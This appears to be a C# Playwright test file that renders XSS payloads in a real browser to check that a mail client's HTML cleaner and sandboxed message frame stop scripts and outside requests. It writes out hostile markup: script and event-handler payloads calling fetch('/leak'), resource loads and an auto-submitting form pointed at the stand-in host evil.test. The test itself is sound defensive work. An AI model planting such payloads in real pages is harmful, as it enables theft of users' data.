using MailIntegration.Tests.Journeys;
using System.Collections.Concurrent;
using System.Net;
using MailIntegration.Engine.Security;
using Microsoft.Playwright;

namespace MailIntegration.Tests.Security;

/// <summary>What a real browser makes of the hostile fragments. The control shows that the harness would notice.</summary>
public sealed class HtmlBrowserTests
{
    private const string Origin = "http://mail.test/";

    // Every way in which a payload announces itself, and every event that could wake a sleeping one.
    private const string Watch =
        "window.fired=[];for(const n of ['alert','confirm','prompt','print','open'])window[n]=(...a)=>{window.fired.push(n+':'+a);};"
        + "Object.defineProperty(window,'xss',{set(v){window.fired.push('xss');},get(){return undefined;}});";

    private const string Provoke =
        "() => { for (const e of document.querySelectorAll('*')) for (const t of ['load','error','mouseover','mouseout','mousedown','focus',"
        + "'blur','submit','scroll','toggle','begin','animationstart','pointerover','input','change']) e.dispatchEvent(new Event(t));"
        + " for (const e of document.querySelectorAll('a')) if ((e.getAttribute('href')||'').startsWith('#')) e.click();"
        + " const before = document.body.innerHTML; document.body.innerHTML = before; const t = document.createElement('template');"
        + " t.innerHTML = before; document.body.append(t.content.cloneNode(true)); }";

    [ChromiumFact]
    public async Task Clean_EveryKnownPayloadInAnOpenPage_RunsAndLoadsNothing()
    {
        var cleaner = new HtmlCleaner();
        var options = new HtmlCleanOptions();

        var events = await RunAsync(html => cleaner.Clean(html, options).Html);

        Assert.True(events.Count == 0, string.Join('\n', events));
    }

    [ChromiumFact]
    public async Task Writer_EveryKnownPayloadWithoutGuardInAnOpenPage_RunsAndLoadsNothing()
    {
        var events = await RunAsync(static html => HtmlCleaner.CleanParsed(html, new HtmlCleanOptions(), new HtmlWarningList()).Html);

        Assert.True(events.Count == 0, string.Join('\n', events));
    }

    [ChromiumFact]
    public async Task Control_UncleanedPayloadsInAnOpenPage_AreNoticed()
    {
        var events = await RunAsync(static html => html);

        Assert.True(events.Count(static e => e.Contains("fired", StringComparison.Ordinal)) >= 30, string.Join('\n', events));
        Assert.Contains(events, static e => e.Contains("request", StringComparison.Ordinal));
    }

    [ChromiumFact]
    public async Task Document_UncleanedPayloadsInTheFrame_RunAndLoadNothing()
    {
        // The second line of defence on its own: sandbox and policy, with the cleaner taken away. Scripts would call home.
        var payloads = XssPayloads.Read().Select(static payload => payload.Html.Replace("alert(", "fetch('/leak?'+", StringComparison.Ordinal))
            .Concat(HostileMarkup.All.Select(static html => html.Replace("window.xss=1", "fetch('/leak')", StringComparison.Ordinal)))
            .Append("<script>fetch('/leak')</script><img src=x onerror=fetch('/leak')><svg onload=fetch('/leak')>")
            .Append("<img src=http://evil.test/1><style>@import 'http://evil.test/2';*{background:url(http://evil.test/3)}</style>")
            .Append("<link rel=stylesheet href=http://evil.test/4><link rel=prefetch href=http://evil.test/5><video src=http://evil.test/6 poster=http://evil.test/7>")
            .Append("<iframe src=http://evil.test/8></iframe><object data=http://evil.test/9></object><embed src=http://evil.test/10>")
            .Append("<form action=http://evil.test/11><input name=q autofocus onfocus=this.form.submit()></form><a href=http://evil.test/12 ping=http://evil.test/13>x</a>");

        var events = await RunAsync(payloads, static html => MessageFrame.Document(new CleanHtml { Html = html }, new MessageFrameOptions()), MessageFrame.Sandbox);

        // Images of our own origin may load (without cookies); a refresh by meta element moves the frame itself, which no
        // policy prevents. Both fall to the cleaner.
        var harmful = events.FindAll(static e => e.StartsWith("request " + Origin + "leak", StringComparison.Ordinal)
            || !(e.StartsWith("navigate", StringComparison.Ordinal) || e.StartsWith("request " + Origin, StringComparison.Ordinal)));
        Assert.True(harmful.Count == 0, string.Join('\n', harmful));
    }

    private static Task<List<string>> RunAsync(Func<string, string> prepare) =>
        RunAsync(XssPayloads.Read().Select(static payload => payload.Html).Concat(HostileMarkup.All), prepare, null);

    /// <summary>Shows each payload in a frame of its own and names everything that happens.</summary>
    private static async Task<List<string>> RunAsync(IEnumerable<string> payloads, Func<string, string> prepare, string? sandbox)
    {
        using var playwright = await Playwright.CreateAsync();
        await using var browser = await playwright.Chromium.LaunchAsync(
            new BrowserTypeLaunchOptions { ExecutablePath = InstalledBrowser.Path, Args = ["--no-sandbox"] });
        var context = await browser.NewContextAsync();
        await context.AddInitScriptAsync(Watch);
        var events = new ConcurrentQueue<string>();
        var body = "";
        await context.RouteAsync("**/*", async route =>
        {
            if (route.Request.Url == Origin)
            {
                await route.FulfillAsync(new RouteFulfillOptions { ContentType = "text/html; charset=utf-8", Body = body });
                return;
            }

            events.Enqueue((route.Request.IsNavigationRequest ? "navigate " : "request ") + route.Request.Url);
            await route.AbortAsync();
        });
        var page = await context.NewPageAsync();
        page.Popup += (_, popup) => events.Enqueue("popup " + popup.Url);
        foreach (var chunk in payloads.Index().Chunk(40))
        {
            body = "<!DOCTYPE html><link rel=\"icon\" href=\"data:,\">" + string.Concat(chunk.Select(item => Frame(item.Index, prepare(item.Item), sandbox)));
            await page.GotoAsync(Origin, new PageGotoOptions { WaitUntil = WaitUntilState.DOMContentLoaded, Timeout = 120_000 });
            await ProvokeAsync(page, sandbox is null, events);
        }

        return [.. events];
    }

    private static string Frame(int index, string html, string? sandbox) =>
        $"<iframe name=\"{index + 1}\"{(sandbox is null ? "" : $" sandbox=\"{sandbox}\"")} srcdoc=\"{WebUtility.HtmlEncode(html)}\"></iframe>";

    private static async Task ProvokeAsync(IPage page, bool canRun, ConcurrentQueue<string> events)
    {
        // Frames from srcdoc load at once, apart from what they should not load at all.
        await page.WaitForTimeoutAsync(700);
        if (canRun)
        {
            await page.EvaluateAsync("f => { for (let i = 0; i < frames.length; i++) { try { frames[i].eval('(' + f + ')()'); } catch (e) { } } }", Provoke);
        }

        // What was provoked may take a moment to arrive.
        await page.WaitForTimeoutAsync(300);
        if (canRun)
        {
            var fired = await page.EvaluateAsync<string[]>(
                "() => Array.from({ length: frames.length }, (_, i) => frames[i]).flatMap(f => { try { return f.fired.map(x => f.name + ' fired ' + x); } catch (e) { return []; } })");
            Array.ForEach(fired, events.Enqueue);
        }
    }
}
